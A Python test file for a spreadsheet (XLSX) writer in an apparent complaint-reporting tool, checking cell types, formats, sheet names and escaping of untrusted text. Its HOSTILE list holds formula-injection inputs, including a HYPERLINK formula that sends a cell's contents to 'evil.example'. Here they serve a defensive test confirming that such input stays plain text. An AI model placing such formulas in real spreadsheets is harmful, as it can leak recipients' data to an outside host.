"""The XLSX writer (SpreadsheetML written directly), read back by openpyxl: values keep their
types, number formats, widths, frozen and filterable header, sheet names made valid and unique,
and text from strangers stays text (never a formula or an error
value, quotePrefix when it starts like a formula, unsafe characters escaped visibly)."""

from __future__ import annotations

import math
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import openpyxl
from openpyxl.cell.cell import Cell

from mailflow.adapters.xlsx_writer import Sheet, SheetColumn, write_workbook

COLUMNS = (
    SheetColumn("Nomor Aduan", "text", 18),
    SheetColumn("Perihal", "text", 40.5),
    SheetColumn("Jumlah", "int", 10),
    SheetColumn("% Tepat Waktu", "percent", 11),
    SheetColumn("Tanggal", "date", 12),
    SheetColumn("Batas Waktu (WITA)", "datetime", 19),
    SheetColumn("Terlambat", "duration", 14),
)
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "+62 812 3456 7890",
    "-5 hari lampu mati",
    "@kadis mohon dibaca",
    "\uff1dSUM(A1:A9)",
    "#N/A",
    "=1+1\n=2+2 baris kedua",
)
ROWS = [
    ("LPR-2026-00102", "Lampu \u202emati\u202c di <Jl.> Ahmad & Yani", 1234567, 0.875, date(2026, 12, 21),
     datetime(2026, 12, 21, 10, 30), 56.5 * 3600),
    ("LPR-2026-00103", "  spasi di depan dan belakang  ", 0, 1.0, date(1900, 3, 1),
     datetime(2026, 1, 1, 0, 0, 0, 1000), 0),
    ("LPR-2026-00104", "", None, None, None, None, None),
    ("LPR-2026-00105", "Aduan \ud800 rusak \uffff", 7, math.nan, None, None, 90),
    *((f"LPR-2026-{200 + n:05d}", text, n, 0.5, None, None, 3600) for n, text in enumerate(HOSTILE)),
]  # fmt: skip


def write(tmp_path: Path) -> Path:
    sheets = [
        Sheet("Terlambat", COLUMNS, ROWS),
        Sheet("Terlambat", COLUMNS[:2], [("x", "y")]),  # the same name again
        Sheet("Per OPD: [Jan/Feb]*?", COLUMNS[2:3], []),  # characters Excel refuses in a name
        Sheet("Rekap yang namanya jauh lebih panjang dari tiga puluh satu", COLUMNS[:1], [("a",)]),
        Sheet("OPD's", COLUMNS[:1], []),
    ]
    return write_workbook(
        tmp_path / "laporan.xlsx", sheets, title="Laporan <Mingguan> & Tren", subject="2026-W52"
    )


def test_types_formats_and_layout(tmp_path: Path) -> None:
    path = write(tmp_path)
    assert not list(tmp_path.glob(".*.tmp"))
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [
        "Terlambat", "Terlambat (2)", "Per OPD- -Jan-Feb---", "Rekap yang namanya jauh lebih p", "OPD's",
    ]  # fmt: skip
    assert book.properties.title == "Laporan <Mingguan> & Tren"
    assert book.properties.subject == "2026-W52"
    assert book.properties.creator == "mailflow"
    sheet = book["Terlambat"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:G{len(ROWS) + 1}"
    assert [sheet.column_dimensions[c].width for c in "ABCDEFG"] == [18, 40.5, 10, 11, 12, 19, 14]
    assert sheet.row_dimensions[1].height == 32
    header = sheet[1]
    assert [c.value for c in header] == [c.header for c in COLUMNS]
    assert all(c.font.bold and c.font.color.rgb == "FFFFFFFF" for c in header)
    assert all(c.fill.fgColor.rgb == "FF1F4E79" and c.alignment.wrap_text for c in header)
    assert header[0].border.bottom.style == "thin"
    first = [c.value for c in sheet[2]]
    assert first == [
        "LPR-2026-00102", "Lampu \\u202emati\\u202c di <Jl.> Ahmad & Yani", 1234567, 0.875,
        datetime(2026, 12, 21), datetime(2026, 12, 21, 10, 30), timedelta(hours=56, minutes=30),
    ]  # fmt: skip
    assert [c.number_format for c in sheet[2]][2:] == [
        "#,##0", "0.0%", "dd/mm/yyyy", "dd/mm/yyyy hh:mm", "[h]:mm",
    ]  # fmt: skip
    assert sheet["A2"].alignment.wrap_text and sheet["A2"].alignment.vertical == "top"
    second = [c.value for c in sheet[3]]
    assert second[1] == "  spasi di depan dan belakang  "  # spaces kept
    assert second[4] == datetime(1900, 3, 1)  # past Excel's phantom 29 Feb 1900
    assert second[5] == datetime(2026, 1, 1, 0, 0, 0, 1000)
    assert second[6] == timedelta(0)
    assert [c.value for c in sheet[4]] == ["LPR-2026-00104", None, None, None, None, None, None]
    broken = [c.value for c in sheet[5]]
    assert broken[1] == "Aduan \\ud800 rusak \\uffff"  # XML cannot hold them: shown escaped
    assert broken[3] is None  # NaN: Excel has none, the cell stays empty
    assert broken[6] == timedelta(seconds=90)  # a short duration is not rounded away
    assert book["Terlambat (2)"]["B2"].value == "y"
    assert book["OPD's"].auto_filter.ref == "A1:A1"


def test_text_from_strangers_is_never_a_formula(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(write(tmp_path))
    cells: list[Cell] = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in HOSTILE:
        assert text in texts, text
        assert texts[text].data_type == "s"
        assert texts[text].quotePrefix == (text != "#N/A"), text
    assert not texts["LPR-2026-00102"].quotePrefix  # ordinary text has no prefix style
